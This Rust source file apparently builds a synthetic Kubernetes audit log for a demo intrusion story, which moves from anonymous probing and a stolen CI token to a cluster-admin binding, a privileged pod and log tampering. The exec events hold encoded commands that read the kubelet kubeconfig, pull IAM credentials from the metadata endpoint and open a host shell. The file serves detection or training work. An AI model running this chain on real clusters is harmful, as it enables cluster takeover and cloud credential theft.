//! The story's events, built once per log from [`super::story()`]'s steps: who, what, when and
//! the bodies, rendered through the same [`Event`] as the noise.

use super::cast::{Actor, Cast, Identity, rbac_reason, sa_groups, sa_subject};
use super::cast_people::{developer, developer_reason};
use super::event::{AuditId, Authz, Event, ObjRef};
use super::noise::POD_CREATE_ANNOTATIONS;
use super::story::story;
use super::story_objects as body;
use super::{ATTACKER_IP, DAY_START_MICROS, ROGUE_SA};

const ATTACKER_KUBECTL: &str = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225";
const DEPLOYER: &str = "system:serviceaccount:ci:deployer";
const BASIC_USER: &str = r#"RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" to Group "system:authenticated""#;

/// Which of the story's identities sends a request.
#[derive(Debug, Clone, Copy)]
enum Who {
    /// No credentials: `system:anonymous`, scripted.
    Anonymous,
    /// A made-up bearer token, which fails authentication.
    BadToken,
    Developer,
    Deployer,
    Rogue,
}

#[derive(Debug, Clone)]
enum Verdict {
    Allow(String),
    Forbid,
    Unauthenticated,
}

#[derive(Debug, Clone)]
struct StoryEvent {
    audit_id: &'static str,
    stage: i64,
    latency: i64,
    who: Who,
    verb: &'static str,
    uri: String,
    object: Option<ObjRef<'static>>,
    code: u16,
    verdict: Verdict,
    request: Option<String>,
    response: Option<String>,
    annotations: &'static [(&'static str, &'static str)],
}

/// The story, ready to be merged into the noise.
#[derive(Debug)]
pub(crate) struct Story {
    actors: [Actor; 5],
    events: Vec<StoryEvent>,
}

fn obj(
    resource: &'static str,
    namespace: Option<&'static str>,
    name: Option<&'static str>,
    group: &'static str,
) -> Option<ObjRef<'static>> {
    Some(ObjRef {
        resource,
        namespace,
        name,
        group,
        version: "v1",
        subresource: None,
    })
}

/// Microseconds since the epoch of a time of day on the demo's date, `HH:MM:SS.ffffff`.
fn at(clock: &str) -> i64 {
    let mut parts = clock.split([':', '.']);
    let mut next = |scale: i64| {
        parts
            .next()
            .and_then(|p| p.parse::<i64>().ok())
            .unwrap_or(0)
            * scale
    };
    let (h, m, s, us) = (
        next(3_600_000_000),
        next(60_000_000),
        next(1_000_000),
        next(1),
    );
    DAY_START_MICROS + h + m + s + us
}

impl Story {
    pub(crate) fn new(cast: &Cast) -> Self {
        let sa_actor = |ns: &str, sa: &str, uid: &str, reason: &str| {
            let username = format!("system:serviceaccount:{ns}:{sa}");
            let groups = sa_groups(ns);
            let id = Identity {
                username: &username,
                uid: Some(uid),
                groups: &[&groups[0], &groups[1], &groups[2]],
                extra: &[],
            };
            Actor::new(id, ATTACKER_KUBECTL, ATTACKER_IP, reason)
        };
        let anonymous = Identity {
            username: "system:anonymous",
            uid: None,
            groups: &["system:unauthenticated"],
            extra: &[],
        };
        let actors = [
            Actor::new(anonymous, "python-requests/2.32.3", ATTACKER_IP, ""),
            Actor::new(anonymous, "curl/8.5.0", ATTACKER_IP, ""),
            developer().calling_from(ATTACKER_KUBECTL, ATTACKER_IP),
            sa_actor(
                "ci",
                "deployer",
                "41c7e9a2-8d3f-4b6e-a5c1-7f2e9d0b3a68",
                &rbac_reason(
                    "ci-deployer",
                    "ClusterRole",
                    "ci-deployer",
                    &sa_subject("ci", "deployer"),
                ),
            ),
            sa_actor(
                "kube-system",
                "node-health-agent",
                body::ROGUE_SA_UID,
                &rbac_reason(
                    "node-health-agent",
                    "ClusterRole",
                    "cluster-admin",
                    &sa_subject("kube-system", "node-health-agent"),
                ),
            ),
        ];
        let node = cast
            .nodes
            .get(4)
            .map_or("ip-10-0-40-17.ec2.internal", |n| n.name.as_str());
        let mut events = build(node, &actors);
        // Each step's audit IDs, in order, from the public story; the events are built in
        // time order, which is also step order.
        let ids = story().iter().flat_map(|s| s.audit_ids.iter().copied());
        for (event, id) in events.iter_mut().zip(ids) {
            event.audit_id = id;
        }
        Story { actors, events }
    }

    pub(crate) fn len(&self) -> usize {
        self.events.len()
    }

    /// When event `i` completes, in µs since the epoch.
    pub(crate) fn stage(&self, i: usize) -> i64 {
        self.events.get(i).map_or(i64::MAX, |e| e.stage)
    }

    pub(crate) fn render(&self, i: usize, out: &mut Vec<u8>) {
        let Some(e) = self.events.get(i) else {
            return;
        };
        let actor = &self.actors[e.who as usize];
        // Secret-based service-account tokens are flagged so they can be found and retired.
        let legacy: &[(&str, &str)] = match e.who {
            Who::Deployer => &[("authentication.k8s.io/legacy-token", DEPLOYER)],
            Who::Rogue => &[("authentication.k8s.io/legacy-token", ROGUE_SA)],
            _ => &[],
        };
        let failure = match e.code {
            401 => Some("Unauthorized"),
            403 => Some("Forbidden"),
            _ => None,
        };
        Event {
            audit_id: AuditId::Text(e.audit_id),
            uri: e.uri.as_bytes(),
            verb: e.verb,
            actor,
            object: e.object,
            code: e.code,
            failure,
            request_object: e.request.as_deref().map(str::as_bytes),
            response_object: e.response.as_deref().map(str::as_bytes),
            received_micros: e.stage - e.latency,
            stage_micros: e.stage,
            authz: match &e.verdict {
                Verdict::Allow(reason) => Authz::Allow(reason),
                Verdict::Forbid => Authz::Forbid,
                Verdict::Unauthenticated => Authz::Unauthenticated,
            },
            annotations: e.annotations,
            early_annotations: legacy,
        }
        .render(out);
    }
}

/// One event of the story; the audit ID is filled in from the step table afterwards.
fn ev(clock: &str, latency_ms: i64, who: Who, verb: &'static str, uri: &str) -> StoryEvent {
    StoryEvent {
        audit_id: "",
        stage: at(clock),
        latency: latency_ms * 1000 + 137,
        who,
        verb,
        uri: uri.to_owned(),
        object: None,
        code: 200,
        verdict: Verdict::Allow(String::new()),
        request: None,
        response: None,
        annotations: &[],
    }
}

impl StoryEvent {
    fn on(mut self, object: Option<ObjRef<'static>>) -> Self {
        self.object = object;
        self
    }
    fn sub(mut self, sub: &'static str) -> Self {
        if let Some(o) = &mut self.object {
            o.subresource = Some(sub);
        }
        self
    }
    fn code(mut self, code: u16) -> Self {
        self.code = code;
        self.verdict = match code {
            401 => Verdict::Unauthenticated,
            403 => Verdict::Forbid,
            _ => self.verdict,
        };
        self
    }
    fn allow(mut self, reason: &str) -> Self {
        self.verdict = Verdict::Allow(reason.to_owned());
        self
    }
    fn bodies(mut self, (req, resp): (String, String)) -> Self {
        self.request = Some(req);
        self.response = Some(resp);
        self
    }
}

/// The events of all nine steps, in step order (and, within a step, time order).
fn build(node: &str, actors: &[Actor; 5]) -> Vec<StoryEvent> {
    use Who::*;
    let view = developer_reason("developers-view", "view");
    let edit = |ns: &str| developer_reason(&format!("developers-edit/{ns}"), "edit");
    let deployer = actors[Deployer as usize].reason.clone();
    let rogue = actors[Rogue as usize].reason.clone();
    let secrets = |ns| obj("secrets", ns, None, "");
    let pod_uri = format!(
        "/api/v1/namespaces/kube-system/pods/{}/exec",
        body::ROGUE_POD
    );
    let exec = |clock, seconds: i64, query: &str| {
        ev(
            clock,
            seconds * 1000,
            Rogue,
            "get",
            &format!("{pod_uri}?{query}"),
        )
        .on(obj("pods", Some("kube-system"), Some(body::ROGUE_POD), ""))
        .sub("exec")
        .code(101)
        .allow(&rogue)
    };
    vec![
        // 1. Anonymous probing.
        ev("06:41:07.214311", 2, Anonymous, "get", "/api").code(403),
        ev("06:41:08.019775", 2, Anonymous, "list", "/api/v1/namespaces").on(obj("namespaces", None, None, "")).code(403),
        ev("06:41:08.733102", 2, Anonymous, "list", "/api/v1/secrets").on(secrets(None)).code(403),
        ev("06:41:09.402958", 2, Anonymous, "list", "/api/v1/namespaces/kube-system/secrets").on(secrets(Some("kube-system"))).code(403),
        ev("06:41:10.118437", 2, Anonymous, "list", "/api/v1/namespaces/kube-system/pods").on(obj("pods", Some("kube-system"), None, "")).code(403),
        ev("06:41:11.560284", 2, Anonymous, "list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings").on(obj("clusterrolebindings", None, None, "rbac.authorization.k8s.io")).code(403),
        ev("06:43:02.331570", 1, BadToken, "get", "/api/v1/namespaces/kube-system/secrets/admin-user-token").on(obj("secrets", Some("kube-system"), Some("admin-user-token"), "")).code(401),
        ev("06:43:03.118902", 1, BadToken, "list", "/api/v1/secrets").on(secrets(None)).code(401),
        ev("06:43:04.870216", 1, BadToken, "watch", "/api/v1/namespaces/kube-system/secrets?watch=true").on(secrets(Some("kube-system"))).code(401),
        // 2. The leaked key.
        ev("07:02:14.562019", 3, Developer, "create", "/apis/authentication.k8s.io/v1/selfsubjectreviews")
            .on(obj("selfsubjectreviews", None, None, "authentication.k8s.io")).code(201).allow(BASIC_USER)
            .bodies(body::self_subject_review(&actors[Developer as usize].user_json)),
        ev("07:02:31.190455", 4, Developer, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews")
            .on(obj("selfsubjectrulesreviews", None, None, "authorization.k8s.io")).code(201).allow(BASIC_USER)
            .bodies(body::self_subject_rules_review("default", "2026-11-02T07:02:31Z")),
        ev("07:03:05.877310", 18, Developer, "list", "/api/v1/namespaces?limit=500").on(obj("namespaces", None, None, "")).allow(&view),
        ev("07:03:48.402766", 64, Developer, "list", "/api/v1/pods?limit=500").on(obj("pods", None, None, "")).allow(&view),
        ev("07:04:40.015893", 4, Developer, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews")
            .on(obj("selfsubjectrulesreviews", None, None, "authorization.k8s.io")).code(201).allow(BASIC_USER)
            .bodies(body::self_subject_rules_review("ci", "2026-11-02T07:04:40Z")),
        // 3. Secret enumeration.
        ev("07:06:12.640118", 3, Developer, "list", "/api/v1/secrets?limit=500").on(secrets(None)).code(403),
        ev("07:06:40.207734", 3, Developer, "list", "/api/v1/namespaces/kube-system/secrets?limit=500").on(secrets(Some("kube-system"))).code(403),
        ev("07:07:02.951460", 3, Developer, "list", "/api/v1/namespaces/monitoring/secrets?limit=500").on(secrets(Some("monitoring"))).code(403),
        ev("07:07:25.388025", 3, Developer, "list", "/api/v1/namespaces/checkout/secrets?limit=500").on(secrets(Some("checkout"))).code(403),
        ev("07:08:11.726592", 9, Developer, "list", "/api/v1/namespaces/payments/secrets?limit=500").on(secrets(Some("payments"))).allow(&edit("payments")),
        ev("07:09:30.104377", 4, Developer, "get", "/api/v1/namespaces/payments/secrets/payments-db-credentials").on(obj("secrets", Some("payments"), Some("payments-db-credentials"), "")).allow(&edit("payments")),
        ev("07:11:04.583921", 7, Developer, "list", "/api/v1/namespaces/ci/secrets?limit=500").on(secrets(Some("ci"))).allow(&edit("ci")),
        ev("07:13:55.269140", 4, Developer, "get", "/api/v1/namespaces/ci/secrets/deployer-token").on(obj("secrets", Some("ci"), Some("deployer-token"), "")).allow(&edit("ci")),
        // 4. The cluster-admin binding, with the stolen deployer token.
        ev("07:21:18.455302", 11, Deployer, "create", "/api/v1/namespaces/kube-system/serviceaccounts?fieldManager=kubectl-create&fieldValidation=Strict")
            .on(obj("serviceaccounts", Some("kube-system"), Some("node-health-agent"), "")).code(201).allow(&deployer)
            .bodies(body::service_account()),
        ev("07:22:41.902617", 9, Deployer, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict")
            .on(obj("clusterrolebindings", None, Some("node-health-agent"), "rbac.authorization.k8s.io")).code(201).allow(&deployer)
            .bodies(body::cluster_role_binding()),
        ev("07:23:27.336841", 8, Deployer, "create", "/api/v1/namespaces/kube-system/secrets?fieldManager=kubectl-create&fieldValidation=Strict")
            .on(obj("secrets", Some("kube-system"), Some("node-health-agent-token"), "")).code(201).allow(&deployer),
        ev("07:24:02.781053", 4, Deployer, "get", "/api/v1/namespaces/kube-system/secrets/node-health-agent-token")
            .on(obj("secrets", Some("kube-system"), Some("node-health-agent-token"), "")).allow(&deployer),
        // 5. aws-auth.
        ev("07:33:09.117764", 5, Rogue, "get", "/api/v1/namespaces/kube-system/configmaps/aws-auth")
            .on(obj("configmaps", Some("kube-system"), Some("aws-auth"), "")).allow(&rogue),
        ev("07:34:51.640289", 14, Rogue, "patch", "/api/v1/namespaces/kube-system/configmaps/aws-auth?fieldManager=kubectl-edit&fieldValidation=Strict")
            .on(obj("configmaps", Some("kube-system"), Some("aws-auth"), "")).allow(&rogue)
            .bodies(body::aws_auth_patch()),
        // 6. The privileged pod.
        StoryEvent {
            annotations: POD_CREATE_ANNOTATIONS,
            ..ev("07:47:26.208531", 37, Rogue, "create", "/api/v1/namespaces/kube-system/pods?fieldManager=kubectl-create&fieldValidation=Strict")
                .on(obj("pods", Some("kube-system"), Some(body::ROGUE_POD), "")).code(201).allow(&rogue)
                .bodies(body::privileged_pod(node))
        },
        // 7. Exec: the line is written when the session ends.
        exec("07:55:40.902114", 48, "command=chroot&command=%2Fhost&command=cat&command=%2Fvar%2Flib%2Fkubelet%2Fkubeconfig&container=agent&stderr=true&stdout=true"),
        exec("08:02:13.447208", 6, "command=sh&command=-c&command=curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fatlas-prod-nodegroup-role&container=agent&stderr=true&stdout=true"),
        exec("08:09:57.630775", 371, "command=chroot&command=%2Fhost&command=bash&container=agent&stdin=true&stdout=true&tty=true"),
        // 8. The webhook.
        ev("08:21:33.512906", 12, Rogue, "create", "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict")
            .on(obj("validatingwebhookconfigurations", None, Some("node-health-policy"), "admissionregistration.k8s.io")).code(201).allow(&rogue)
            .bodies(body::validating_webhook()),
        // 9. Covering tracks.
        ev("08:37:12.074439", 7, Rogue, "delete", "/apis/rbac.authorization.k8s.io/v1/namespaces/ci/rolebindings/developers-edit")
            .on(obj("rolebindings", Some("ci"), Some("developers-edit"), "rbac.authorization.k8s.io")).allow(&rogue)
            .bodies(body::delete_role_binding()),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_match_the_published_steps() {
        let story_events = Story::new(&Cast::new()).events;
        let ids: usize = story().iter().map(|s| s.audit_ids.len()).sum();
        assert_eq!(story_events.len(), ids);
        assert!(story_events.windows(2).all(|w| w[0].stage < w[1].stage));
        let mut at = 0;
        for step in story() {
            let events = &story_events[at..at + step.audit_ids.len()];
            at += step.audit_ids.len();
            let clock = |micros: i64| {
                let secs = (micros - DAY_START_MICROS) / 1_000_000;
                format!("{:02}:{:02}:{:02}", secs / 3600, secs / 60 % 60, secs % 60)
            };
            let (first, last) = (
                clock(events[0].stage),
                clock(events[events.len() - 1].stage),
            );
            let when = if first == last {
                first
            } else {
                format!("{first} – {last}")
            };
            assert_eq!(step.when, when, "{}", step.id);
        }
    }

    #[test]
    fn clock_times_are_on_the_demo_day() {
        assert_eq!(at("06:00:00.000000"), super::super::START_MICROS);
        assert_eq!(at("06:00:01.000002") - at("06:00:00.000000"), 1_000_002);
    }
}
